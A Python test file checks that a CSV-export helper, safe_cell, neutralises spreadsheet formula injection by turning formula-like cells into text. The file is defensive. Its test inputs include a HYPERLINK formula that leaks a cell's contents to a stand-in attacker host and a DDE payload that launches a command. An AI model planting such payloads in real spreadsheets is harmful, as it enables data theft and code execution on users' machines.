"""Cells that no spreadsheet runs."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bizwatch.kernel.spreadsheets import csv_lines, safe_cell

SIGNS = "=+-@\t\r\n"


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "+447700900982",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
)
def test_a_formula_becomes_text(formula):
    assert safe_cell(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "value", ["Boots", "", "O'Neill", "3-5 High Street", "a=b", " x", 5, -5, 1.5, None, date(2026, 1, 1)]
)
def test_everything_else_stays(value):
    assert safe_cell(value) == value


@given(st.text(max_size=30))
def test_no_text_begins_like_a_formula(text):
    assert not safe_cell(text).lstrip(" \u00a0\u3000").startswith(tuple(SIGNS))
    assert safe_cell(text).removeprefix("'") == text or text.startswith("'")


@given(
    st.lists(
        st.lists(
            st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=10),
            min_size=2,
            max_size=2,
        ),
        max_size=5,
    )
)
def test_a_file_reads_back_cell_by_cell(rows):
    text = "".join(csv_lines(["one", "two"], rows))
    assert text.startswith("\ufeff")
    header, *read = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert header == ["one", "two"]
    assert read == [[safe_cell(cell) for cell in row] for row in rows]
